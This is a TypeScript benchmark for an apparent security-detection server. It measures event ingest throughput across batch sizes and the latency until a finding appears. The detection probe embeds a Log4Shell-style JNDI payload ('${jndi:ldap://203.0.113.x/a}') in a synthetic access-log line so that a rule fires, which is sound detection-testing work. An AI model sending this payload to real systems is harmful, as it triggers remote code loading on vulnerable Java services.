/**
 * Claim: over HTTP, embedded stores, two cores shared with the sender: at least 10,000 events of
 * 800 bytes a second to stable storage, and p99 ≤ 2 s from receipt to a finding that can be read.
 * Compared in one run: batches of 1,000 against batches of 100.
 * Usage: node bench/src/ingest.bench.ts [--write]
 */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startInstallation } from "./installation.ts";
import { quantile } from "./machine.ts";
import { report } from "./result.ts";

const eventBytes = 800;
const senders = 4;
const laneSeconds = 15;
const probes = 40;

const line = (index: number): string => {
  const user = `user${index % 997}`;
  const head = `Nov 24 05:10:${String(index % 60).padStart(2, "0")} web-${index % 20} sshd[${index % 30_000}]: Accepted publickey for ${user} from 192.0.2.${index % 250} port ${1_024 + (index % 60_000)} ssh2: ED25519 SHA256:`;
  return head + "k".repeat(eventBytes - head.length);
};

const bodyOf = (events: number, from: number): string =>
  Array.from({ length: events }, (_none, index) => line(from + index)).join("\n");

const dataDir = mkdtempSync(join(tmpdir(), "xdr-bench-"));
const server = await startInstallation(dataDir);
const { token, get } = await server.setUp();
const headers = { authorization: `Bearer ${token}`, "content-type": "text/plain" };

const send = async (body: string): Promise<void> => {
  const answer = await fetch(`${server.url}/api/ingest`, { method: "POST", headers, body });
  if (answer.status !== 200) throw new Error(`ingest answered ${answer.status}`);
  await answer.arrayBuffer();
};

const lane = async (batchEvents: number) => {
  // Prepared beforehand: the sender's own work is not what is measured.
  const bodies = Array.from({ length: 8 }, (_none, index) =>
    bodyOf(batchEvents, index * batchEvents),
  );
  await send(bodies[0] ?? "");
  const until = performance.now() + laneSeconds * 1000;
  const latencies: number[] = [];
  let sent = 0;
  const start = performance.now();
  await Promise.all(
    Array.from({ length: senders }, async (_none, sender) => {
      for (let turn = sender; performance.now() < until; turn += 1) {
        const begin = performance.now();
        await send(bodies[turn % bodies.length] ?? "");
        latencies.push(performance.now() - begin);
        sent += batchEvents;
      }
    }),
  );
  const seconds = (performance.now() - start) / 1000;
  return {
    batchEvents,
    events: sent,
    eventsPerSecond: Math.round(sent / seconds),
    ackMsP50: Math.round(quantile(latencies, 0.5)),
    ackMsP99: Math.round(quantile(latencies, 0.99)),
  };
};

/** A record that a rule of the catalog finds, sent while nothing else runs; until it can be read. */
const findingLatency = async (probe: number): Promise<number> => {
  const address = `203.0.113.${probe + 1}`;
  const record = `203.0.113.${probe + 1} - - [24/Nov/2026:05:10:00 +0000] "GET /?x=\${jndi:ldap://${address}/a} HTTP/1.1" 200 5 "-" "probe"`;
  const start = performance.now();
  await send(record);
  for (;;) {
    const found = JSON.stringify(await get("/api/findings?from=0&limit=200"));
    if (found.includes(address)) return performance.now() - start;
    if (performance.now() - start > 30_000) throw new Error("no finding within 30 s");
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
};

try {
  const lanes = [await lane(1_000), await lane(100)];
  const latencies: number[] = [];
  for (let probe = 0; probe < probes; probe += 1) latencies.push(await findingLatency(probe));
  const [large, small] = lanes;
  report("ingest", {
    eventBytes,
    senders,
    lanes,
    ratioLargeToSmallBatches: Number(
      ((large?.eventsPerSecond ?? 0) / (small?.eventsPerSecond ?? 1)).toFixed(2),
    ),
    findingMsP50: Math.round(quantile(latencies, 0.5)),
    findingMsP99: Math.round(quantile(latencies, 0.99)),
  });
} finally {
  await server.stop();
  rmSync(dataDir, { recursive: true, force: true });
}
